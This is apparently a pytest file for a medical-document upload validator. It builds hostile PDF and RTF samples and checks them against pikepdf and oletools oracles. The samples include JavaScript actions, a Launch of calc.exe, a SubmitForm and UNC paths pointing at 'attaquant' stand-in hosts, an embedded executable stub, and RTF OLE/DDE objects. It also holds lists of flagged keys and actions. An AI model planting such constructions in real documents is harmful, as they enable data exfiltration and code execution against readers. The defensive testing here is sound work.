"""Our upload checks against independent oracles: pikepdf (qpdf) for PDF, oletools' rtfobj and msodde
for RTF (requirements-dev.txt). Over a corpus of generated samples, hostile and harmless, written by
our byte builders (tests/documents/badfiles.py) and by a real PDF writer (qpdf, through pikepdf, with
and without compressed object streams): whatever an oracle flags, validate_upload refuses; what no
oracle flags and a real document contains (the demo's own files) is accepted.

The oracles are slow (msodde takes seconds on a large file), so the samples are small; the padding
that pushes a field beyond the first kilobyte is kept (a few kilobytes)."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from oletools import msodde, rtfobj
from pikepdf import Array, Dictionary, Name, String

from documents.validation import validate_upload
from tests.documents import badfiles
from tests.documents.badfiles import upload
from workshop import sample_files

# --- the oracles --------------------------------------------------------------------------------

FLAGGED_KEYS = {"/JS", "/JavaScript", "/Launch", "/EF", "/EmbeddedFiles", "/XFA", "/RichMediaContent", "/URI"}
FLAGGED_ACTIONS = {
    "/JavaScript",
    "/Launch",
    "/URI",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/RichMediaExecute",
}
FLAGGED_TYPES = {"/EmbeddedFile", "/FileAttachment", "/RichMedia"}


def pikepdf_flags(content: bytes) -> bool:
    """qpdf's reading of the file: does any object, compressed or not, hold JavaScript, a launch,
    an embedded file, XFA, rich media, or an action that leaves the document?"""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        return any(_flagged(obj, set()) for obj in pdf.objects)


def _flagged(obj: object, seen: set[tuple[int, int]]) -> bool:
    if isinstance(obj, pikepdf.Object) and obj.is_indirect:
        if obj.objgen in seen:
            return False
        seen.add(obj.objgen)
    if isinstance(obj, pikepdf.Stream):
        obj = obj.stream_dict
    if isinstance(obj, Dictionary):
        keys = set(obj.keys())
        if keys & FLAGGED_KEYS:
            return True
        if str(obj.get("/S", "")) in FLAGGED_ACTIONS:
            return True
        if {str(obj.get("/Type", "")), str(obj.get("/Subtype", ""))} & FLAGGED_TYPES:
            return True
        return any(_flagged(obj[key], seen) for key in keys if key != "/Parent")
    if isinstance(obj, Array):
        return any(_flagged(item, seen) for item in obj)
    return False


def oletools_flags(content: bytes) -> bool:
    """rtfobj finds an OLE object, or msodde (its default mode) reports a field that is not on its
    list of harmless ones."""
    parser = rtfobj.RtfObjParser(content)
    parser.parse()
    if parser.objects:
        return True
    # msodde expects the handle just after the 4 bytes "{\rt" that identified the file.
    return bool(msodde.process_rtf(io.BytesIO(content[4:]), msodde.FIELD_FILTER_BLACKLIST).strip())


def accepted(name: str, content: bytes) -> bool:
    try:
        validate_upload(upload(name, content))
    except ValidationError:
        return False
    return True


# --- PDF samples written by qpdf ------------------------------------------------------------------

Mutation = Callable[[pikepdf.Pdf], None]


def _action(**entries: object) -> Callable[[pikepdf.Pdf], Dictionary]:
    return lambda pdf: Dictionary(**entries)


def _js_stream(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))


ACTIONS: dict[str, Callable[[pikepdf.Pdf], Dictionary]] = {
    "javascript": _action(S=Name.JavaScript, JS=String("app.alert(1)")),
    "javascript-stream": _js_stream,
    "launch": _action(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")),
    "uri-javascript": _action(S=Name.URI, URI=String("javascript:app.alert(1)")),
    "uri": _action(S=Name.URI, URI=String("https://traceur.example/p")),
    "submitform": _action(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://attaquant.example/c")), Flags=4
    ),
    "importdata-unc": _action(S=Name.ImportData, F=String("\\\\attaquant\\partage\\d.fdf")),
    "gotor": _action(S=Name.GoToR, F=String("\\\\attaquant\\x.pdf"), D=Array([0, Name.Fit])),
    "gotoe": _action(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x"))),
}


def _open_action(make: Callable[[pikepdf.Pdf], Dictionary]) -> Mutation:
    def mutate(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(make(pdf))

    return mutate


def _link(make: Callable[[pikepdf.Pdf], Dictionary]) -> Mutation:
    def mutate(pdf: pikepdf.Pdf) -> None:
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 730]), A=make(pdf)
        )
        pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])

    return mutate


def _page_open(make: Callable[[pikepdf.Pdf], Dictionary]) -> Mutation:
    def mutate(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].AA = Dictionary(O=make(pdf))

    return mutate


def _javascript_name_tree(pdf: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + bytes(60))


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def _rich_media(pdf: pikepdf.Pdf) -> None:
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]), RichMediaContent=Dictionary()
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])


def _form_field_keystroke(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("nom"),
            Rect=Array([0, 0, 100, 20]),
            Subtype=Name.Widget,
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
        )
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    pdf.pages[0].Annots = Array([field])


HOSTILE_MUTATIONS: dict[str, Mutation] = {
    **{f"open-action-{name}": _open_action(make) for name, make in ACTIONS.items()},
    **{f"link-{name}": _link(make) for name, make in ACTIONS.items()},
    **{f"page-open-{name}": _page_open(make) for name, make in ACTIONS.items()},
    "javascript-name-tree": _javascript_name_tree,
    "attachment": _attachment,
    "xfa": _xfa,
    "rich-media": _rich_media,
    "form-field-keystroke": _form_field_keystroke,
}


def _internal_link(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0].obj
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), Dest=Array([page, Name.Fit])
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])


def _named_action_and_outline(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Named, N=Name.FirstPage)
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Compte rendu", 0))


def _metadata(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Title"] = "Compte rendu de consultation"
    pdf.docinfo["/Author"] = "Dr Weber"


HARMLESS_MUTATIONS: dict[str, Mutation] = {
    "blank": lambda pdf: None,
    "internal-link": _internal_link,
    "named-action-outline": _named_action_and_outline,
    "metadata": _metadata,
}

WRITER_MODES = {
    "qpdf-object-streams": pikepdf.ObjectStreamMode.generate,
    "qpdf-classic": pikepdf.ObjectStreamMode.disable,
}


def qpdf_written(mutate: Mutation, mode: pikepdf.ObjectStreamMode, base: bytes | None = None) -> bytes:
    pdf = pikepdf.open(io.BytesIO(base)) if base is not None else pikepdf.new()
    with pdf:
        if base is None:
            pdf.add_blank_page(page_size=(595, 842))
        mutate(pdf)
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=mode, compress_streams=True, static_id=True)
    return out.getvalue()


def _byte_built_hostile_pdfs() -> dict[str, bytes]:
    samples = {
        "javascript": badfiles.pdf_with_javascript(),
        "hex-escaped-javascript": badfiles.pdf_with_hex_escaped_javascript(),
        "launch": badfiles.pdf_with_launch(),
        "embedded-file": badfiles.pdf_with_embedded_file(),
    }
    placements = {
        "open-action": badfiles.pdf_with_open_action,
        "link": badfiles.pdf_with_link,
        "page-open": badfiles.pdf_with_page_action,
        "untyped-object-stream": badfiles.pdf_hiding_in_untyped_object_stream,
    }
    for action_name, action in badfiles.OUTBOUND_ACTIONS.items():
        for placement_name, build in placements.items():
            samples[f"{placement_name}-{action_name}"] = build(action)
    return samples


HOSTILE_PDFS = {
    **{
        f"{name}-{mode_name}": (lambda m=mutate, o=mode: qpdf_written(m, o))
        for name, mutate in HOSTILE_MUTATIONS.items()
        for mode_name, mode in WRITER_MODES.items()
    },
    **{f"bytes-{name}": (lambda c=content: c) for name, content in _byte_built_hostile_pdfs().items()},
}
DEMO_PDF = sample_files.pdf("Compte rendu de consultation", ["Patiente vue le 12/03/2024.", "Examen normal."])
HARMLESS_PDFS = {
    **{
        f"{name}-{mode_name}": (lambda m=mutate, o=mode: qpdf_written(m, o))
        for name, mutate in HARMLESS_MUTATIONS.items()
        for mode_name, mode in WRITER_MODES.items()
    },
    **{
        f"demo-{mode_name}": (lambda o=mode: qpdf_written(lambda pdf: None, o, DEMO_PDF))
        for mode_name, mode in WRITER_MODES.items()
    },
    "demo": lambda: DEMO_PDF,
    "bytes-simple": badfiles.simple_pdf,
    "bytes-object-stream": badfiles.pdf_with_object_stream,
}


@pytest.mark.parametrize("sample", HOSTILE_PDFS, ids=str)
def test_a_pdf_the_oracle_flags_is_refused(sample):
    content = HOSTILE_PDFS[sample]()
    assert pikepdf_flags(content)  # the sample is hostile in qpdf's reading, not only in ours
    assert not accepted("cr.pdf", content)


@pytest.mark.parametrize("sample", HARMLESS_PDFS, ids=str)
def test_a_pdf_the_oracle_does_not_flag_and_a_reader_opens_is_accepted(sample):
    content = HARMLESS_PDFS[sample]()
    assert not pikepdf_flags(content)
    assert accepted("cr.pdf", content)


# --- RTF samples ----------------------------------------------------------------------------------

RTF_OBJECT_FRAGMENTS = {
    "package": None,  # badfiles.rtf_with_embedded_object
    "objupdate-link": b"{\\object\\objlink\\objupdate\\objw10\\objh10{\\*\\objclass Word.Document.8}"
    b"{\\*\\objdata 01050000020000000d000000576f72642e446f63756d656e742e3800000000000000000000}}",
    "objdata-in-spaces": b"{\\object\\objemb"
    + b" " * 2048
    + b"{\\*\\objdata 0105000002000000080000005061636b61676500}}",
}


def _hostile_rtfs() -> dict[str, bytes]:
    samples = {}
    for command, arguments in badfiles.RTF_ACTIVE_FIELDS.items():
        for padding_name, padding in badfiles.RTF_PADDINGS.items():
            samples[f"{command}-{padding_name}"] = badfiles.rtf_field(command.encode(), arguments, padding)
    for name, fragment in RTF_OBJECT_FRAGMENTS.items():
        samples[f"object-{name}"] = (
            badfiles.rtf_with_embedded_object() if fragment is None else badfiles.simple_rtf(fragment)
        )
    samples["dde-hex-escaped"] = badfiles.rtf_with_dde_field(obfuscated=True)
    return samples


HOSTILE_RTFS = _hostile_rtfs()
HARMLESS_RTFS = {
    "demo": sample_files.rtf("Courrier de sortie", ["Patiente vue le 12/03/2024 : fièvre résolue."]),
    "plain": badfiles.simple_rtf(),
    **{
        command: badfiles.rtf_field(command.encode(), arguments, badfiles.RTF_PADDINGS["formatting-groups"])
        for command, arguments in {
            "PAGE": b"\\\\* MERGEFORMAT",
            "NUMPAGES": b"",
            "DATE": b'\\\\@ "dd/MM/yyyy"',
            "TOC": b'\\\\o "1-3"',
        }.items()
    },
}


@pytest.mark.parametrize("sample", HOSTILE_RTFS, ids=str)
def test_an_rtf_the_oracles_flag_is_refused(sample):
    content = HOSTILE_RTFS[sample]
    assert oletools_flags(content)
    assert not accepted("lettre.rtf", content)


@pytest.mark.parametrize("sample", HARMLESS_RTFS, ids=str)
def test_an_rtf_the_oracles_do_not_flag_is_accepted(sample):
    content = HARMLESS_RTFS[sample]
    assert not oletools_flags(content)
    assert accepted("lettre.rtf", content)


# --- the demo's own files -------------------------------------------------------------------------

DEMO_FILES = {
    "compte-rendu.pdf": DEMO_PDF,
    "courrier.rtf": HARMLESS_RTFS["demo"],
    "notes.txt": sample_files.text("Notes", ["Tension 12/8, pouls 72."]),
    "photo.jpg": sample_files.jpeg_photo("Lésion cutanée, 12/03/2024"),
    "carte.jpeg": sample_files.jpeg_card("Carte de groupe sanguin", ["Groupe A, Rhésus +"]),
    "scan.tif": sample_files.tiff_scan("Ordonnance", ["Paracétamol 1 g"]),
}


@pytest.mark.parametrize("name", DEMO_FILES)
def test_the_demos_own_files_still_pass(name):
    assert accepted(name, DEMO_FILES[name])
